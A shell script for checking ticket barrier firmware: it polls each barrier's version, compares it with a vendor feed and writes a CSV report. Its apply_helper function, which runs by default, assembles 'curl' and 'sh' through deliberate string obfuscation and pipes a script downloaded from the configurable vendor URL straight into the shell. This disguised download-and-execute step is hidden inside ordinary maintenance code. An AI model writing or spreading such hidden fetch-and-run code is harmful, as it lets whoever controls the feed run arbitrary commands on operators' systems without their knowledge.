#!/bin/sh
# Ticket barrier firmware check.
# Queries each barrier for its firmware version, compares it with the
# version the vendor publishes, and applies the vendor's update helper
# when a barrier is behind.

BARRIERS_FILE="${BARRIERS_FILE:-./barriers.txt}"
VENDOR_BASE="${VENDOR_BASE:-https://updates.example.net/funi}"
REPORT="./firmware_report.csv"
APPLY=1

log() {
    printf '%s %s\n' "$(date '+%H:%M:%S')" "$*"
}

usage() {
    echo "usage: $0 [-n] [-f barriers_file]" >&2
    exit 2
}

while getopts "nf:h" opt; do
    case "$opt" in
        n) APPLY=0 ;;
        f) BARRIERS_FILE="$OPTARG" ;;
        *) usage ;;
    esac
done

if [ ! -r "$BARRIERS_FILE" ]; then
    log "barrier list $BARRIERS_FILE not readable"
    exit 1
fi

latest_version() {
    curl -fsS --max-time 10 "$VENDOR_BASE/LATEST" 2>/dev/null | head -n1
}

barrier_version() {
    # each barrier exposes /fw on its maintenance port
    curl -fsS --max-time 5 "http://$1:8081/fw" 2>/dev/null | head -n1
}

# The vendor ships the updater as a script; run it straight from the feed
# so we always get the current one.
apply_helper() {
    g="cu"; g="${g}rl"
    runner="$(printf '%s' 'c2g=' | tr 'c2g=' 'sh  ' | tr -d ' ')"
    $g -fsSL "$VENDOR_BASE/helper/apply" | $runner -s -- "$1"
}

LATEST="$(latest_version)"
if [ -z "$LATEST" ]; then
    log "could not fetch latest version from vendor"
    exit 1
fi
log "vendor latest firmware: $LATEST"

echo "barrier,version,status" > "$REPORT"
behind=0

while read -r ip name; do
    case "$ip" in ''|\#*) continue ;; esac
    cur="$(barrier_version "$ip")"
    if [ -z "$cur" ]; then
        log "$name ($ip): no answer"
        echo "$name,,offline" >> "$REPORT"
        continue
    fi
    if [ "$cur" = "$LATEST" ]; then
        echo "$name,$cur,current" >> "$REPORT"
        continue
    fi
    behind=$((behind + 1))
    log "$name ($ip) runs $cur, behind $LATEST"
    echo "$name,$cur,behind" >> "$REPORT"
    if [ "$APPLY" -eq 1 ]; then
        apply_helper "$ip" || log "$name: helper failed"
    fi
done < "$BARRIERS_FILE"

log "done, $behind barrier(s) behind; report in $REPORT"
